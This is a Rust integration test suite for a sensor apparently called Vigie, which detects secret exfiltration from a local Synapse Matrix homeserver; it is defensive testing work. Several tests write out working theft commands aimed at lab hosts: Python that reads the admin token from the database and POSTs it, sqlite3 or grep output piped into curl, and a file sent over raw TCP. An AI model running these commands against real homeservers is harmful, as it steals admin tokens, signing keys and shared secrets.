//! Vigie protecting a real Matrix homeserver: Synapse installed by pip, generated fresh, on loopback,
//! watched with `--profile matrix-synapse --synapse-config homeserver.yaml --synapse-config conf.d`.
//!
//! The scenarios share one homeserver and one sensor (see `integration_tests::synapse`) and
//! take turns. Each asserts alerts, or their absence behind a barrier: a later alert of a
//! control actor proves the sensor had handled everything before it, never a sleep.
//!
//! The homeserver is trusted to read its secrets; made to send one it keeps to itself
//! (scenario 7: a malicious module), its TLS plaintext (on the TLS code it really maps) and its
//! plain HTTP sends are scanned for the secrets' values. Known gap (scenario 6): the access
//! tokens it hands out are its own to send, wherever they go.

use std::net::SocketAddr;
use std::path::Path;
use std::process::{Command, Stdio};

use anyhow::{ensure, Context, Result};
use integration_tests::remote_server::{certificate, Server};
use integration_tests::synapse::{self, SharedLab, SynapseLab, INDEX_TITLE, KNOWN_GAP_TITLE, LEAK_PATH};
use integration_tests::{actor_exe, alert, ALERT_TIMEOUT};
use serde_json::Value;

fn shared() -> Result<SharedLab> {
    SynapseLab::shared(actor_exe!())
}

/// Reads the newest admin access token from the database (Synapse's schema).
const ADMIN_TOKEN_SQL: &str = "SELECT t.token FROM access_tokens t JOIN users u ON u.name = t.user_id \
                               WHERE u.admin = 1 ORDER BY t.id DESC LIMIT 1";

/// `python -c` that takes the admin token from `argv[1]` (the database) and POSTs it to
/// `argv[2]`, printing nothing.
const STEAL_TOKEN_PY: &str = "import sqlite3, sys, urllib.request\n\
    db = sqlite3.connect(sys.argv[1])\n\
    (token,) = db.execute(sys.argv[3]).fetchone()\n\
    urllib.request.urlopen(urllib.request.Request(sys.argv[2], data=token.encode()), timeout=10)\n";

/// `python -c` of a local admin script: the token from the database, then the admin API on
/// loopback (`argv[2]`); exits non-zero unless the homeserver answers 200.
const LOCAL_ADMIN_PY: &str = "import sqlite3, sys, urllib.request\n\
    db = sqlite3.connect(sys.argv[1])\n\
    (token,) = db.execute(sys.argv[3]).fetchone()\n\
    request = urllib.request.Request(sys.argv[2], headers={'Authorization': 'Bearer ' + token})\n\
    sys.exit(0 if urllib.request.urlopen(request, timeout=10).status == 200 else 1)\n";

/// `python -c` reading `argv[1]` and sending it to `argv[2]:argv[3]` over TCP.
const READ_AND_SEND_PY: &str = "import socket, sys\n\
    data = open(sys.argv[1], 'rb').read()\n\
    socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=10).sendall(data)\n";

/// Runs `program args` to completion; returns its pid. Its output is discarded unread: it may
/// carry a secret.
fn run(program: impl AsRef<std::ffi::OsStr>, args: &[&str]) -> Result<u32> {
    let program = program.as_ref();
    let mut child = Command::new(program)
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .with_context(|| format!("start {}", program.to_string_lossy()))?;
    let pid = child.id();
    let status = child.wait()?;
    ensure!(status.success(), "{} {:?} failed: {status}", program.to_string_lossy(), args.first());
    Ok(pid)
}

fn path(path: &Path) -> &str {
    path.to_str().unwrap_or_default()
}

fn executable_ends_with(line: &Value, pointer: &str, name: &str) -> bool {
    synapse::text(line, pointer).is_some_and(|exe| exe.ends_with(&format!("/{name}")))
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_1_normal_life_of_the_homeserver_is_quiet() -> Result<()> {
    let world = shared()?;
    let start = world.window_start()?;

    // Start-up (seen whole: Vigie started first) and the admin's registration.
    let startup = world.alerts_in(&world.sensor.lines()[..world.startup_lines]);
    ensure!(startup.is_empty(), "alerts while the homeserver started: {startup:#?}");
    // Not for want of watching: register_new_matrix_user read homeserver.yaml (it is no
    // homeserver), it only talked to loopback.
    world.sensor.expect(synapse::is_secret_read(world.register_pid, &world.files.config), ALERT_TIMEOUT)?;

    // Logins, rooms, messages, and outbound fetches of a namespace host's pages.
    let admin = world.login_admin()?;
    let room = admin.create_room("vigie")?;
    for (txn, text) in ["hello", "a preview follows"].iter().enumerate() {
        admin.send_text(&room, &format!("t{txn}"), text)?;
    }
    let title = admin.preview_title(&world.site.url(""))?;
    ensure!(title == INDEX_TITLE, "the preview shows {title:?}: the homeserver did not fetch the page");
    world.admin.send_text(&room, "t9", &world.site.url(""))?;
    // Recognised as the homeserver: its reads of its own secrets were allowed reads, no taint.
    world.assert_quiet_since(start)
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_2_admin_token_theft_from_the_database_is_an_alert() -> Result<()> {
    let world = shared()?;
    let dest = world.lab.remote().tcp_v4();
    let url = format!("http://{dest}/");
    let database = &world.files.database;

    let pid = run(world.venv.python(), &["-c", STEAL_TOKEN_PY, path(database), &url, ADMIN_TOKEN_SQL])?;

    let found = world.sensor.expect(alert::is_exfiltration_by(pid), ALERT_TIMEOUT)?;
    ensure!(alert::file_path(&found) == database.to_str(), "names the database: {found:#}");
    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
    ensure!(synapse::pid_at(&found, "/vigie/origin/pid") == Some(pid), "the script read it: {found:#}");
    Ok(())
}

/// Runs `script` (`READER … | curl …`) in a shell and expects the alert on curl, with the
/// shell as an ancestor, `reader` as the origin, `secret` as the file and `dest`.
fn expect_piped_upload(
    world: &SynapseLab,
    script: &str,
    reader: &str,
    secret: &str,
    dest: SocketAddr,
) -> Result<()> {
    let shell = run("sh", &["-c", script])?;
    let found = world.sensor.expect(
        |line| {
            alert::is_exfiltration(line)
                && alert::ancestry_pids(line).contains(&shell)
                && executable_ends_with(line, "/process/executable", "curl")
        },
        ALERT_TIMEOUT,
    )?;
    ensure!(executable_ends_with(&found, "/vigie/origin/executable", reader), "from {reader}: {found:#}");
    ensure!(alert::file_path(&found) == Some(secret), "names {secret}: {found:#}");
    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_2_admin_token_through_sqlite3_and_curl_is_an_alert() -> Result<()> {
    let world = shared()?;
    let dest = world.lab.remote().tcp_v4();
    let database = path(&world.files.database);
    let curl = format!("curl -s -o /dev/null --data-binary @- http://{dest}/");
    let script = format!("sqlite3 -readonly '{database}' '{ADMIN_TOKEN_SQL}' | {curl}");

    expect_piped_upload(&world, &script, "sqlite3", database, dest)
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_3_shared_secret_through_grep_and_curl_is_an_alert() -> Result<()> {
    let world = shared()?;
    let dest = world.lab.remote().tcp_v4();
    let config = path(&world.files.config);
    let script =
        format!("grep registration_shared_secret '{config}' | curl -s -o /dev/null -d @- http://{dest}/");

    expect_piped_upload(&world, &script, "grep", config, dest)
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_4_signing_key_copied_then_sent_by_another_process_is_an_alert() -> Result<()> {
    let world = shared()?;
    let dest = world.lab.remote().tcp_v4();
    let copy = world.lab.dir().join("k");
    let key = path(&world.files.signing_key);

    run("cp", &[key, path(&copy)])?;
    let sender = run(
        "curl",
        &["-s", "-o", "/dev/null", "--data-binary", &format!("@{}", path(&copy)), &format!("http://{dest}/")],
    )?;

    let found = world.sensor.expect(alert::is_exfiltration_by(sender), ALERT_TIMEOUT)?;
    ensure!(alert::file_path(&found) == Some(key), "names the signing key: {found:#}");
    ensure!(synapse::text(&found, "/vigie/via/kind") == Some("file"), "through the copy: {found:#}");
    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_5_a_stolen_token_used_on_loopback_is_not_exfiltration() -> Result<()> {
    let world = shared()?;
    let api = format!("http://{}/_synapse/admin/v2/users?limit=10", world.files.addr());
    let database = &world.files.database;

    let pid = run(world.venv.python(), &["-c", LOCAL_ADMIN_PY, path(database), &api, ADMIN_TOKEN_SQL])?;

    // It did read the database (so the quiet below means something), then only used loopback.
    world.sensor.expect(synapse::is_secret_read(pid, database), ALERT_TIMEOUT)?;
    world.lab.assert_no_alert_for(&world.sensor, pid)
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_6_known_gap_the_homeserver_itself_leaking_a_secret_is_not_seen() -> Result<()> {
    let world = shared()?;
    let synapse_pid = world.homeserver.pid();
    let start = world.window_start()?;
    // The secret the homeserver is made to send: a fresh admin access token, in the URL it
    // fetches (what a server-side request forgery would do). Never printed.
    let token = world.login_admin()?.access_token().to_owned();

    let title = world.admin.preview_title(&world.site.url(&format!("known-gap.html?t={token}")))?;

    ensure!(title == KNOWN_GAP_TITLE, "the homeserver did not fetch the page");
    world.lab.barrier(&world.sensor)?;
    let about_synapse: Vec<Value> =
        world.sensor.lines()[start..].iter().filter(|l| synapse::involves(l, synapse_pid)).cloned().collect();
    // The gap, asserted so that closing it (a token the homeserver sends judged by where it
    // goes) shows up here: turn this around.
    ensure!(
        about_synapse.is_empty(),
        "the gap is closed? update the README and this test: {about_synapse:#?}"
    );
    Ok(())
}

/// Makes the homeserver's malicious module send `registration_shared_secret` `via` `twisted`
/// or `urllib` over HTTPS to a TLS server on the namespace host, or `plain` over HTTP, and
/// expects the confirmed alert by the homeserver, the value named and never printed, seen in
/// the TLS plaintext or in the plain socket send.
fn expect_module_leak(world: &SynapseLab, via: &str) -> Result<()> {
    let synapse_pid = world.homeserver.pid();
    let plain = via == "plain";
    let cert = if plain { None } else { Some(certificate(world.lab.dir())?) };
    let server = Server::start(&world.lab, cert.as_ref())?;
    let dest = server.addr;

    let answer = world.admin.call("GET", &format!("{LEAK_PATH}?to={dest}&via={via}"), None)?;

    ensure!(answer.status == 200, "the module did not send: {}", answer.summary());
    let (received, _) = server.received()?;
    ensure!(received > 0, "the server got nothing");
    let confirmed = |line: &Value| {
        alert::is_exfiltration_by(synapse_pid)(line)
            && line.pointer("/vigie/content").is_some()
            && alert::destination(line) == Some(dest)
    };
    let found = world.sensor.expect(confirmed, ALERT_TIMEOUT)?;
    ensure!(synapse::text(&found, "/event/kind") == Some("alert"), "{found:#}");
    let value = found.pointer("/vigie/content/value").map(Value::to_string).unwrap_or_default();
    ensure!(value.contains("registration_shared_secret"), "names the value: {found:#}");
    let seen_in = if plain { "socket" } else { "openssl" };
    ensure!(synapse::text(&found, "/vigie/content/seen_in") == Some(seen_in), "seen in {seen_in}: {found:#}");
    ensure!(!prints_shared_secret(world)?, "the secret's value was printed");
    Ok(())
}

/// Whether the sensor's output so far holds the value of `registration_shared_secret`. A
/// shell compares them, so that this test never reads the config (it would be tainted).
fn prints_shared_secret(world: &SynapseLab) -> Result<bool> {
    let output = world.lab.dir().join("sensor-output.json");
    let lines: Vec<String> = world.sensor.lines().iter().map(Value::to_string).collect();
    std::fs::write(&output, lines.join("\n") + "\n" + &world.sensor.stderr())?;
    let script = "value=$(sed -n 's/^registration_shared_secret: *//p' \"$1\" | tr -d '\"') && \
                  [ -n \"$value\" ] || exit 3; grep -qF -- \"$value\" \"$2\"";
    let status = Command::new("sh")
        .args(["-c", script, "sh", path(&world.files.config), path(&output)])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()?;
    match status.code() {
        Some(0) => Ok(true),
        Some(1) => Ok(false),
        _ => anyhow::bail!("comparing the output with the secret failed: {status}"),
    }
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_7_a_module_leaking_the_shared_secret_through_twisted_tls_is_confirmed() -> Result<()> {
    let world = shared()?;
    // pyOpenSSL's OpenSSL is linked statically into cryptography's module: probed as mapped.
    let probed = |line: &Value| {
        synapse::text(line, "/event/action") == Some("tls-library-probed")
            && synapse::text(line, "/vigie/tls_probe/path").is_some_and(|p| p.ends_with("/_rust.abi3.so"))
    };
    let found = world.sensor.expect(probed, ALERT_TIMEOUT)?;
    let synapse_pid = world.homeserver.pid();
    ensure!(
        synapse::pid_at(&found, "/vigie/tls_probe/pid") == Some(synapse_pid),
        "the homeserver maps it: {found:#}"
    );
    ensure!(found.pointer("/vigie/tls_probe/error").is_none(), "attached: {found:#}");

    expect_module_leak(&world, "twisted")
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_7_a_module_leaking_the_shared_secret_through_urllib_is_confirmed() -> Result<()> {
    // Python's ssl module: the system libssl, probed at start.
    expect_module_leak(&*shared()?, "urllib")
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_7_a_module_leaking_the_shared_secret_over_plain_http_is_confirmed() -> Result<()> {
    // Twisted's client without TLS: the bytes of the homeserver's TCP send.
    expect_module_leak(&*shared()?, "plain")
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_python_c_with_the_homeservers_interpreter_is_not_trusted() -> Result<()> {
    let world = shared()?;
    let dest = world.lab.remote().tcp_v4();
    let config = &world.files.config;
    let (host, port) = (dest.ip().to_string(), dest.port().to_string());

    let pid = run(world.venv.python(), &["-c", READ_AND_SEND_PY, path(config), &host, &port])?;

    let found = world.sensor.expect(alert::is_exfiltration_by(pid), ALERT_TIMEOUT)?;
    ensure!(alert::file_path(&found) == config.to_str(), "names homeserver.yaml: {found:#}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_every_file_its_config_points_at_is_watched() -> Result<()> {
    let world = shared()?;
    let files = &world.files;
    let wal = files.database.with_extension("db-wal");
    let watched =
        [&files.config, &files.overrides, &files.signing_key, &files.database, &wal, &files.appservice];
    let actor = watched.iter().fold(world.lab.actor(), integration_tests::Actor::read);

    let run = actor.run()?;

    for file in watched {
        world.sensor.expect(synapse::is_secret_read(run.pid, file), ALERT_TIMEOUT)?;
    }
    Ok(())
}

/// How long the Matrix sink may take to post a notice once the alert is written.
const NOTICE_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(20);

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn synapse_an_agent_with_a_matrix_sink_posts_its_alert_as_a_notice_in_a_room() -> Result<()> {
    use std::io::Write as _;
    use std::os::unix::fs::OpenOptionsExt as _;

    let world = shared()?;
    let room = world.admin.create_room("vigie alerts")?;
    // The sink posts as a session of its own; its token goes in a file only root reads.
    let session = world.login_admin()?;
    let token_file = world.lab.dir().join("matrix-token");
    std::fs::OpenOptions::new()
        .create_new(true)
        .write(true)
        .mode(0o600)
        .open(&token_file)?
        .write_all(session.access_token().as_bytes())?;
    let config = world.lab.dir().join("matrix-sink.toml");
    std::fs::write(
        &config,
        format!(
            "[[sink]]\ntype = \"matrix\"\nhomeserver = \"http://{}\"\nroom_id = \"{room}\"\n\
             access_token_file = \"{}\"\n",
            world.files.addr(),
            token_file.display()
        ),
    )?;
    let sensor = world.lab.sensor_with(&["--config".as_ref(), config.as_os_str()])?;

    let run = world.lab.actor().read(world.lab.secret()).tcp(world.lab.remote().tcp_v4()).run()?;
    let found = sensor.expect(alert::is_exfiltration_by(run.pid), ALERT_TIMEOUT)?;
    let id = synapse::text(&found, "/event/id").context("event.id")?.to_owned();

    let messages = format!("/_matrix/client/v3/rooms/{}/messages?dir=b&limit=50", synapse::encode(&room));
    let deadline = std::time::Instant::now() + NOTICE_TIMEOUT;
    let notice = loop {
        let response = world.admin.call("GET", &messages, None)?;
        ensure!(response.status == 200, "/messages: {}", response.summary());
        let chunk = response.body["chunk"].as_array().cloned().unwrap_or_default();
        let notice = chunk.into_iter().find(|event| {
            synapse::text(event, "/content/msgtype") == Some("m.notice")
                && synapse::text(event, "/content/body").is_some_and(|body| body.contains(&id))
        });
        if let Some(notice) = notice {
            break notice;
        }
        ensure!(std::time::Instant::now() < deadline, "no notice with {id} in {room} in {NOTICE_TIMEOUT:?}");
        std::thread::sleep(std::time::Duration::from_millis(200));
    };
    let body = synapse::text(&notice, "/content/body").unwrap_or_default();
    ensure!(body.contains(alert::EXFILTRATION), "names the alert: {body}");
    ensure!(body.contains(&format!("process.pid={}", run.pid)), "names the process: {body}");
    ensure!(body.contains(&world.lab.secret().display().to_string()), "names the secret: {body}");
    ensure!(!body.contains(session.access_token()), "never the token");
    Ok(())
}
